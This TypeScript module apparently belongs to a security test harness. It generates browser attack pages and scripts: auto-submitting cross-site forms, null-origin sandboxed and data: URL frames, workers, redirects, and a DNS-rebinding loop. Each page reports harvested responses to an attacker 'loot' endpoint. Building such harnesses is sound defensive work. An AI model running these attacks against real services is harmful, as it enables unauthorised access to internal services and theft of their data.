/** The scripts that attacks are made of, as the text that a browser runs. */
import type { Resource } from './attacker.ts';
import type { Aim, Row, Surroundings } from './row.ts';

/**
 * Names for every script: `url`, `body()` (without a type, so that no Content-Type is sent), `say(text)` (reports),
 * `attempt(f)` (reports what `f` yields, or that it failed).
 */
export function prelude(aim: Aim, { loot }: Surroundings): string {
  return `
const aim = ${JSON.stringify(aim)};
const url = aim.service + aim.path;
const body = () => new Blob([aim.body ?? '']);
const say = (text) => fetch(${JSON.stringify(loot)}, { method: 'POST', mode: 'no-cors', body: String(text).slice(0, 60000) });
const attempt = async (f) => {
  try { await say(await f()); } catch (error) { await say('failed: ' + error); }
};
const readText = (answer) => answer.text();
const readFirst = async (answer) => new TextDecoder().decode((await answer.body.getReader().read()).value);
`;
}

/** A page that runs `code`, with `html` before it. */
export function page(aim: Aim, around: Surroundings, code: string, html = ''): Resource {
  return {
    body: `<!doctype html><meta charset="utf-8"><title>attack</title><body>${html}
<script>${prelude(aim, around)}${code}</script>`,
  };
}

export function script(aim: Aim, around: Surroundings, code: string): Resource {
  return { type: 'text/javascript', body: `${prelude(aim, around)}${code}` };
}

/** Attributes of a form. */
export interface FormOptions {
  readonly enctype?: string;
  readonly target?: string;
  readonly action?: string;
  readonly fields?: string;
}

const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

export function form(aim: Aim, options: FormOptions = {}): string {
  const {
    enctype = 'application/x-www-form-urlencoded',
    target = '_self',
    fields = '<input name="a" value="b">',
  } = options;
  const action = options.action ?? `${aim.service}${aim.path}`;
  return `<form id="form" method="post" action="${attribute(action)}" enctype="${enctype}" target="${target}">${fields}</form>`;
}

type Stage = Row['stage'];

/** Runs `code` in the page, with `htmlOf` before it. */
export const inPage =
  (code: string, htmlOf: (aim: Aim) => string = () => ''): Stage =>
  (aim, around) => ({ page: page(aim, around, code, htmlOf(aim)) });

/** The same in a sandboxed frame of the page: its origin is `null`. */
export const inSandbox =
  (code: string, htmlOf: (aim: Aim) => string = () => '', flags = 'allow-scripts'): Stage =>
  (aim, around) => ({
    page: page(aim, around, '', `<iframe sandbox="${flags}" src="frame"></iframe>`),
    frame: page(aim, around, code, htmlOf(aim)),
  });

/** The same in a frame whose document is a `data:` URL: its origin is `null`. */
export const inDataUrl =
  (code: string): Stage =>
  (aim, around) => {
    const url = `data:text/html,${encodeURIComponent(page(aim, around, code).body)}`;
    return { page: page(aim, around, '', `<iframe src="${url}"></iframe>`) };
  };

/** Runs `code` in the script `worker`, which the page starts. */
export const inWorker =
  (code: string, start = `new Worker('worker');`): Stage =>
  (aim, around) => ({ page: page(aim, around, start), worker: script(aim, around, code) });

export const IN_SHARED_WORKER = `new SharedWorker('worker');`;

/** Target of a redirect by the attacker's server, as a path of it. */
export const redirect = (to: string, status: number) =>
  `/redirect?status=${status}&to=${encodeURIComponent(to)}`;

/** Returns a function that makes rows like `base`. */
export const rowsLike =
  (base: Pick<Row, 'from' | 'does' | 'targets'>) =>
  (id: string, method: string, stage: Stage, more: Partial<Row> = {}): Row => ({
    ...base,
    id,
    method,
    stage,
    ...more,
  });

export const SUBMIT = `document.getElementById('form').submit();`;

/** Waits until this page's own name leads to the service: its health check is public. */
export const REBIND = (base: string) => `
const rebind = async () => {
  // The connection may be cut with its answer.
  await fetch(${JSON.stringify(base)}.replace('attempt', 'rebind')).catch(() => undefined);
  for (let tries = 0; tries < 100; tries++) {
    const answer = await fetch('/api/status').then((r) => r.text(), () => '');
    if (answer.includes('"ok"')) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error('the name still leads to the attacker');
};
`;
